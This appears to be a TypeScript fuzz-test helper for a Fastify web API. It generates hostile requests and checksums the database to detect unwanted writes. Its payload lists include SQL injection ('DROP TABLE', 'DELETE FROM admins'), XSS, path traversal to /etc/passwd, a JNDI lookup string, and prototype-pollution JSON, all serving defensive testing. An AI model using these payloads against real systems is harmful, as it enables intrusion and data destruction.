import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { Database } from '../db/connection';

/**
 * Hostile request generators shared by the fuzz test (npm test) and the long fuzz run
 * (npm run stress). Requests are plain data, so both in-process inject and a real socket can send them.
 */

export interface FuzzRoute {
  method: string;
  /** Fastify route pattern, e.g. /api/resources/:id or /api/docs/* */
  url: string;
}

export interface FuzzRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
}

/** Method + full path of every route in Fastify's route tree printout (HEAD kept: it is a route too). */
export function routesFromPrintout(printout: string): FuzzRoute[] {
  const out: FuzzRoute[] = [];
  const stack: string[] = [];
  for (const line of printout.split('\n')) {
    const m = /^([│ ]*)[├└]── (.*?)(?: \(([A-Z, ]+)\))?$/u.exec(line.replace(/\u00a0/g, ' '));
    if (!m) continue;
    const depth = m[1].length / 4;
    stack.length = depth;
    stack.push(m[2]);
    const url = stack.join('');
    for (const method of m[3]?.split(', ') ?? []) out.push({ method, url });
  }
  return out;
}

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE resources; --",
  '1; DELETE FROM admins',
  '" OR ""="',
  '\\',
  '%',
  '_',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '%252e%252e%252f',
  '\u0000',
  '%00',
  'a\u0000b',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  '\u202egnp.exe',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(300),
  'Ｓｃｒｉｐｔ',
  'ǅ ß İ ı ﬁ',
  '\r\nSet-Cookie: x=1',
  '\u001b[2J',
  '\u0085',
  '\u009b31m',
  'a\u007fb',
  'tab\there',
  '/\t/evil.example/x.png',
  '/%2f/evil.example/x.png',
  'Black, White',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1f',
  '9007199254740993',
  '-9223372036854775809',
  ' ',
  '',
  'null',
  'true',
  '[]',
  '{}',
];

const bigString = fc.integer({ min: 200, max: 80_000 }).chain((n) => fc.constantFrom('A', 'é', '😀', '<', "'").map((c) => c.repeat(n)));

/**
 * Any code point but a lone surrogate, as fast-check's `unit: 'binary'` draws them, without the table
 * of all 1.1 million that fast-check builds for that unit in each test process (0.7–1 s of CPU).
 */
const SURROGATES = 0x800;
const anyCodePoint = fc.integer({ min: 0, max: 0x10ffff - SURROGATES }).map((n) => String.fromCodePoint(n < 0xd800 ? n : n + SURROGATES));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: anyCodePoint, maxLength: 40 }) },
  { weight: 1, arbitrary: bigString },
);

const FIELDS = [
  'title', 'description', 'category', 'thumbnail_url', 'download_url', 'tags', 'is_premium',
  'message', 'is_active', 'username', 'password', 'id', 'admin_id', 'download_count', 'is_super_user', 'created_at',
];

const scalar: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(0, 1, -1, 2 ** 31, 2 ** 53, -(2 ** 63), 1.5),
);

/** A value for a known field: sometimes plausible, often not. */
const fieldValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: scalar },
  { weight: 1, arbitrary: fc.array(scalar, { maxLength: 30 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), scalar, { maxKeys: 4 }) },
  { weight: 1, arbitrary: fc.constantFrom('typography', 'https://example.com/a.zip', '/thumbnails/1.svg', 'A fine title') },
);

const bodyObject = fc.oneof(
  fc.dictionary(fc.constantFrom(...FIELDS), fieldValue, { maxKeys: 8 }),
  fc.jsonValue({ maxDepth: 3 }),
  // A plausible resource with one hostile field: gets past the easy checks.
  fc.record({ field: fc.constantFrom(...FIELDS), value: fieldValue }).map(({ field, value }) => ({
    title: 'Fuzz title',
    description: 'Fuzz description',
    category: 'typography',
    thumbnail_url: '/thumbnails/fuzz.svg',
    download_url: 'https://example.com/fuzz.zip',
    tags: ['Fuzz'],
    message: 'Fuzz message',
    username: 'fuzz_user',
    password: 'fuzz-password-123',
    [field]: value,
  })),
);

const MALFORMED_JSON = [
  '{', '{"title":', '[1,]', "{'a':1}", 'nul', 'undefined', '\u0000', '{"a":1}garbage', '"unterminated',
  '['.repeat(10_000), '{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"x":1}}}', '\ufeff{}', '{"a":1e99999}',
  `"${'x'.repeat(70 * 1024)}"`,
];

const CONTENT_TYPES = [
  'application/json', 'application/json; charset=utf-8', 'text/plain', 'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz', 'application/xml', 'application/json; charset=utf-16', 'application/jsonx',
  'APPLICATION/JSON', 'application/vnd.api+json', '*/*', '', 'application/json, text/html',
];

type Body = { payload?: string; contentType?: string };
const body: fc.Arbitrary<Body> = fc.oneof(
  { weight: 2, arbitrary: fc.constant<Body>({}) },
  { weight: 5, arbitrary: bodyObject.map((o): Body => ({ payload: JSON.stringify(o), contentType: 'application/json' })) },
  { weight: 2, arbitrary: fc.constantFrom(...MALFORMED_JSON).map((p): Body => ({ payload: p, contentType: 'application/json' })) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.oneof(bodyObject.map((o) => JSON.stringify(o)), hostileString), fc.constantFrom(...CONTENT_TYPES))
      .map(([payload, contentType]): Body => ({ payload, contentType })),
  },
);

/** A path segment standing in for a route parameter. Always URL-safe on the wire. */
const segment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('1', '2', '3', '0', '-1', '1.5', '1e3', '0x1', '01', '+1', '99999999999999999999', 'abc', 'null') },
  { weight: 2, arbitrary: fc.constantFrom('..', '%2e%2e', '%2e%2e%2f%2e%2e', '..%2f..%2fetc%2fpasswd', '%00', '1%00', '%2F', '%252e', '%c0%ae%c0%ae', '%ZZ', '%') },
  { weight: 2, arbitrary: fc.nat().map(String) },
  { weight: 2, arbitrary: hostileString.map((s) => encodeURIComponent(safeString(s).slice(0, 300))) },
);

/** Lone surrogates cannot be percent-encoded; swap them for U+FFFD (as a browser would). */
function safeString(s: string): string {
  return s.replace(/[\ud800-\udfff]/g, (c, i: number, all: string) => {
    const code = c.charCodeAt(0);
    if (code <= 0xdbff) { const next = all.charCodeAt(i + 1); return next >= 0xdc00 && next <= 0xdfff ? c : '\ufffd'; }
    const prev = all.charCodeAt(i - 1);
    return prev >= 0xd800 && prev <= 0xdbff ? c : '\ufffd';
  });
}

const QUERY_KEYS = ['q', 'limit', 'cursor', 'category', 'tag', 'tags', 'sort', 'premium', 'page', 'active', 'search', '__proto__', 'constructor', 'a[b]'];
const query: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constant('') },
  {
    weight: 4,
    arbitrary: fc
      .array(fc.tuple(fc.oneof(fc.constantFrom(...QUERY_KEYS), fc.string({ maxLength: 6 })), hostileString), { maxLength: 4 })
      .map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(safeString(k))}=${encodeURIComponent(safeString(v).slice(0, 3000))}`).join('&')),
  },
  { weight: 1, arbitrary: fc.constantFrom('%', '%zz', 'limit=1&limit=2', 'a[b][c]=1', '&&&', '=', 'limit', 'cursor=%00', `q=${'%41'.repeat(5000)}`) },
);

const HEADER_SETS: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.constantFrom(
    'accept', 'accept-encoding', 'accept-language', 'x-forwarded-for', 'x-forwarded-proto', 'x-forwarded-host', 'host',
    'range', 'if-none-match', 'if-modified-since', 'x-request-id', 'referer', 'user-agent', 'x-http-method-override',
  ),
  fc.oneof(
    fc.constantFrom('*/*', 'gzip, br', 'br;q=2, gzip;q=-1', 'identity;q=0', 'bytes=0-0', 'bytes=99999999-', '127.0.0.1, 10.0.0.1', 'https', 'evil.example', 'DELETE', '"etag"', 'Tue, 32 Foo 9999', '../../', '%00'),
    fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789 ;,=*/.-"\'<>%'.split('')), maxLength: 200 }),
  ),
  { maxKeys: 3 },
);

/** The prefix tricks a path can take before the real route. */
const pathTrick: fc.Arbitrary<(url: string) => string> = fc.constantFrom(
  (u: string) => u,
  (u: string) => u,
  (u: string) => u,
  (u: string) => `${u}/`,
  (u: string) => `${u}/../../etc/passwd`,
  (u: string) => u.replace('/api/', '/api/%2e%2e/api/'),
  (u: string) => u.replace('/api/', '//api//'),
  (u: string) => `${u}%00`,
  (u: string) => `${u};jsessionid=1`,
  (u: string) => u.toUpperCase(),
);

/** A random, hostile request aimed at one route (its parameters filled with odd segments). */
export function requestFor(route: FuzzRoute): fc.Arbitrary<FuzzRequest> {
  const params = route.url.split(/(:[a-zA-Z_]+|\*)/).filter((p) => p.startsWith(':') || p === '*').length;
  return fc
    .record({
      segs: fc.array(segment, { minLength: params, maxLength: params }),
      trick: pathTrick,
      query,
      body,
      headers: HEADER_SETS,
    })
    .map(({ segs, trick, query: q, body: b, headers }) => {
      let i = 0;
      const filled = route.url.replace(/(:[a-zA-Z_]+|\*)/g, () => segs[i++]);
      const path = trick(filled.startsWith('/') ? filled : `/${filled}`);
      const h: Record<string, string> = { ...headers };
      delete h['content-type'];
      if (b.contentType !== undefined) h['content-type'] = b.contentType;
      // A wrong Host would only test our own test client; keep it off.
      delete h.host;
      return { method: route.method, url: q ? `${path}?${q}` : path, headers: h, payload: b.payload };
    });
}

/** The paths the server treats as API (case-sensitive, like its router); others are pages. */
export const isApiPath = (pathname: string) => pathname === '/api' || pathname.startsWith('/api/');

export function isErrorShape(body: unknown): boolean {
  if (typeof body !== 'object' || body === null) return false;
  const e = (body as { error?: unknown }).error;
  if (typeof e !== 'object' || e === null) return false;
  const { code, message } = e as { code?: unknown; message?: unknown };
  return typeof code === 'string' && code.length > 0 && typeof message === 'string' && message.length > 0;
}

/**
 * A checksum of every table the product writes. Sign-in throttling counters (rate_limits) are
 * excluded, since counting a refused sign-in is the point of them; sessions are compared by
 * id and owner only, because a valid session's last-seen time slides on every request.
 */
export async function checksum(database: Database): Promise<string> {
  const db = database.db;
  const hash = createHash('sha256');
  const add = (name: string, rows: unknown[]) => {
    const lines = rows.map((r) => JSON.stringify(r)).sort();
    hash.update(`${name}:${lines.length}\n${lines.join('\n')}\n`);
  };
  add('resources', await db.selectFrom('resources').selectAll().execute());
  add('resource_tags', await db.selectFrom('resource_tags').selectAll().execute());
  add('announcements', await db.selectFrom('announcements').selectAll().execute());
  add('admins', await db.selectFrom('admins').selectAll().execute());
  add('sessions', await db.selectFrom('sessions').select(['id', 'admin_id']).execute());
  add('download_days', await db.selectFrom('download_days').selectAll().execute());
  add('settings', await db.selectFrom('settings').selectAll().execute());
  return hash.digest('hex');
}
